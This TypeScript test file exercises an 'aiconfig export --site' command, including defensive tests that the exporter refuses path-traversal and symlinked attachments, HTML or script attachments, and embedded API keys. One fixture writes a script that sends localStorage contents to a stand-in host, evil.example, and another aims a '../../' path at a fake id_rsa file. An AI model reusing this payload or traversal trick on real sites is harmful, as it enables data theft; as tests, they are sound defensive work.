import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, test } from "node:test";
import { AIConfigRuntime } from "@aiconfig-ts/core";
import { repoRoot } from "@aiconfig-ts/testing";

const bin = join(repoRoot, "packages", "cli", "src", "bin.ts");
const pageBuilt = existsSync(join(repoRoot, "packages", "site", "dist-site", "index.html"));

/** Runs the real `aiconfig` command (from its TypeScript sources) in `cwd`. */
function aiconfig(args: string[], cwd = repoRoot) {
  const r = spawnSync(process.execPath, ["--conditions=source", "--import", import.meta.resolve("tsx"), bin, ...args], {
    cwd,
    encoding: "utf8",
    timeout: 120_000,
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** A folder holding a copy of the multimodal example (an attachment under assets/). */
function exampleFolder(): string {
  const dir = mkdtempSync(join(tmpdir(), "aiconfig-export-"));
  cpSync(join(repoRoot, "examples", "multimodal.aiconfig.json"), join(dir, "multimodal.aiconfig.json"));
  cpSync(join(repoRoot, "examples", "assets"), join(dir, "assets"), { recursive: true });
  return dir;
}

describe("aiconfig export --site", () => {
  test("the site's page is built (npm install builds it; else npm run build -w packages/site)", () => assert.ok(pageBuilt));

  test("writes the page, the file unchanged, its attachment and site.json, and prints the files and the size", () => {
    const dir = exampleFolder();
    const r = aiconfig(["export", "multimodal.aiconfig.json", "--site", "site"], dir);
    assert.equal(r.code, 0, r.stderr);
    const site = join(dir, "site");
    assert.equal(
      readFileSync(join(site, "multimodal.aiconfig.json"), "utf8"),
      readFileSync(join(dir, "multimodal.aiconfig.json"), "utf8"),
      "the aiconfig is copied byte for byte",
    );
    assert.deepEqual(readFileSync(join(site, "assets", "sign.png")), readFileSync(join(dir, "assets", "sign.png")));
    const manifest = JSON.parse(readFileSync(join(site, "site.json"), "utf8"));
    assert.equal(manifest.notebook, "multimodal.aiconfig.json");
    assert.ok(Array.isArray(manifest.files) && typeof manifest.models === "object");
    const html = readFileSync(join(site, "index.html"), "utf8");
    assert.match(html, /http-equiv="Content-Security-Policy"/);
    assert.match(r.stdout, /^wrote site: \d+ files, [\d.]+ MB/);
    assert.match(r.stdout, /^ {2}index\.html$/m);
    assert.match(r.stdout, /^ {2}assets\/sign\.png$/m);
    assert.equal(readdirSync(dir).filter((f) => f.includes("partial")).length, 0, "no staging folder is left");
    // the written aiconfig loads with the SDK from the site folder
    assert.equal(AIConfigRuntime.load(join(site, "multimodal.aiconfig.json")).config.prompts.length, 3);
  });

  test("refuses a non-empty folder without --force in one line naming the flag, and leaves it as it was; --force writes into it", () => {
    const dir = exampleFolder();
    mkdirSync(join(dir, "site"));
    writeFileSync(join(dir, "site", "mine.txt"), "keep me");
    const r = aiconfig(["export", "multimodal.aiconfig.json", "--site", "site"], dir);
    assert.equal(r.code, 2);
    assert.equal(r.stderr.trim().split("\n").length, 1, r.stderr);
    assert.match(r.stderr, /^aiconfig: --site site: the folder is not empty; .*--force/);
    assert.deepEqual(readdirSync(join(dir, "site")), ["mine.txt"]);
    const forced = aiconfig(["export", "multimodal.aiconfig.json", "--site", "site", "--force"], dir);
    assert.equal(forced.code, 0, forced.stderr);
    assert.equal(readFileSync(join(dir, "site", "mine.txt"), "utf8"), "keep me", "--force removes no other file");
    assert.ok(existsSync(join(dir, "site", "index.html")));
  });

  test("attack: an attachment outside the file's folder (.. and through a symbolic link) is refused and nothing is written", () => {
    const dir = mkdtempSync(join(tmpdir(), "aiconfig-export-"));
    const secretDir = mkdtempSync(join(tmpdir(), "aiconfig-secret-"));
    writeFileSync(join(secretDir, "id_rsa.png"), "PRIVATE");
    const notebook = (value: string) => ({
      name: "leak",
      schema_version: "latest",
      metadata: {},
      prompts: [
        {
          name: "read",
          input: { data: "", attachments: [{ data: { kind: "file_uri", value }, mime_type: "image/png" }] },
          metadata: { model: "tesseract" },
        },
      ],
    });
    const project = join(dir, "project");
    mkdirSync(project);
    writeFileSync(join(project, "up.aiconfig.json"), JSON.stringify(notebook(`../../${secretDir.split("/").pop()}/id_rsa.png`)));
    const up = aiconfig(["export", "up.aiconfig.json", "--site", "site"], project);
    assert.equal(up.code, 1);
    assert.equal(up.stderr.trim().split("\n").length, 1, up.stderr);
    assert.match(up.stderr, /up\.aiconfig\.json.*\/prompts\/0\/input\/attachments\/0.*\.\./);
    assert.equal(existsSync(join(project, "site")), false);

    symlinkSync(secretDir, join(project, "linked"));
    writeFileSync(join(project, "link.aiconfig.json"), JSON.stringify(notebook("linked/id_rsa.png")));
    const link = aiconfig(["export", "link.aiconfig.json", "--site", "site"], project);
    assert.equal(link.code, 1);
    assert.match(link.stderr, /symbolic link/);
    assert.equal(existsSync(join(project, "site")), false);
    assert.deepEqual(
      readdirSync(project).filter((f) => f.startsWith(".")),
      [],
      "no staging folder is left",
    );
  });

  test("attack: an attachment that is a page, a script or data rather than media (it would run or be read on the site's origin) is refused", () => {
    const dir = mkdtempSync(join(tmpdir(), "aiconfig-export-"));
    writeFileSync(join(dir, "steal.html"), "<script>fetch('//evil.example/?k='+localStorage.getItem('k'))</script>");
    writeFileSync(join(dir, "index.png"), "png");
    const notebook = (value: string) =>
      JSON.stringify({
        name: "x",
        schema_version: "latest",
        metadata: {},
        prompts: [{ name: "read", input: { data: "", attachments: [{ data: { kind: "file_uri", value }, mime_type: "image/png" }] } }],
      });
    writeFileSync(join(dir, "html.aiconfig.json"), notebook("steal.html"));
    const html = aiconfig(["export", "html.aiconfig.json", "--site", "site"], dir);
    assert.equal(html.code, 1);
    assert.match(
      html.stderr,
      /^aiconfig: html\.aiconfig\.json: the file at \/prompts\/0\/input\/attachments\/0\/data \("steal\.html"\) is not put in the site: only media files/,
    );
    assert.equal(existsSync(join(dir, "site")), false);
    writeFileSync(join(dir, "site.json"), "{}");
    writeFileSync(join(dir, "own.aiconfig.json"), notebook("site.json"));
    const own = aiconfig(["export", "own.aiconfig.json", "--site", "site"], dir);
    assert.equal(own.code, 1);
    assert.match(own.stderr, /not put in the site: only media files/);
  });

  test("a key written in the file is refused (a site gives the file to every visitor)", () => {
    const dir = mkdtempSync(join(tmpdir(), "aiconfig-export-"));
    const file = join(dir, "keyed.aiconfig.json");
    writeFileSync(
      file,
      JSON.stringify({
        name: "keyed",
        schema_version: "latest",
        metadata: { models: { "gpt-4o-mini": { api_key: "sk-proj-0123456789abcdefghijklmnop" } } },
        prompts: [{ name: "a", input: "hi", metadata: { model: "gpt-4o-mini" } }],
      }),
    );
    const r = aiconfig(["export", file, "--site", join(dir, "site")]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /a key is written in the file at \/metadata\/models\/gpt-4o-mini\/api_key/);
    assert.doesNotMatch(r.stderr, /sk-proj/);
    assert.equal(existsSync(join(dir, "site")), false);
  });

  test("an invalid file is refused with located problems and nothing is written", () => {
    const dir = mkdtempSync(join(tmpdir(), "aiconfig-export-"));
    writeFileSync(
      join(dir, "bad.aiconfig.json"),
      JSON.stringify({ name: "x", schema_version: "latest", metadata: {}, prompts: [{ name: "a", input: 3 }] }),
    );
    const r = aiconfig(["export", "bad.aiconfig.json", "--site", "site"], dir);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /bad\.aiconfig\.json:\d+:\d+: .*\(at \/prompts\/0\/input\)/);
    assert.equal(existsSync(join(dir, "site")), false);
  });
});

test("aiconfig export --help says what the site holds and how to publish it; no --site is a usage mistake", () => {
  const help = aiconfig(["export", "--help"]);
  assert.equal(help.code, 0, help.stderr);
  assert.match(help.stdout, /--site <dir>/);
  assert.match(help.stdout, /--force/);
  assert.match(help.stdout, /never a key/);
  assert.match(help.stdout, /aiconfig export notebook\.aiconfig\.json --site site\//);
  const missing = aiconfig(["export", "examples/story.aiconfig.json"]);
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /--site <dir>/);
});
